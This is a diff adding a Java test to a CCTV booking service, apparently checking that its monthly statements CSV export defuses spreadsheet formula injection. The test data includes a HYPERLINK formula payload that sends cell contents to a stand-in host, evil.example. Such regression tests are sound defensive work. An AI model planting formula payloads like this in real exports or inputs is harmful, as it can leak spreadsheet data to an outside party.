@@ -101,4 +101,25 @@ class StatementServiceTest {
                 .get("/statements/export?month=" + month).then().statusCode(200).extract().asString();
         assertTrue(!other.contains("MB-" + nights), "another council does not see Milton Keynes' lines");
     }
+
+    /** A camera group typed as a formula reaches the hub supervisor's spreadsheet as text, not as a live link. */
+    @Test
+    void theStatementsCsvNeutralisesACameraGroupTypedAsAFormula() {
+        long hub = hub("tv-ods", 4, 5);
+        YearMonth month = YearMonth.now().minusMonths(5);
+        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")";
+        long booking = as("tv-milton-keynes", () -> bookings.request(new BookingRequest(hub, formula, 2,
+                Booking.Recurrence.WEEKLY, null, null, EnumSet.of(DayOfWeek.SATURDAY), LocalTime.of(20, 0),
+                LocalTime.of(22, 0), month.atDay(1), month.atEndOfMonth(), Booking.Priority.ROUTINE, null,
+                MonitoringFixture.tags("tv-milton-keynes", 2))).id);
+        as("tv-ods", () -> {
+            decisions.approve(booking);
+            return null;
+        });
+        String served = given().auth().oauth2(DemoUsers.token("ods.supervisor"))
+                .get("/statements/export?month=" + month).then().statusCode(200).extract().asString();
+        String line = served.lines().filter(l -> l.contains("MB-" + booking + ",")).findFirst().orElseThrow();
+        assertTrue(line.contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Open\"\")\","), line);
+        assertTrue(!line.contains(",\"=HYPERLINK") && !line.contains(",=HYPERLINK"), line);
+    }
 }
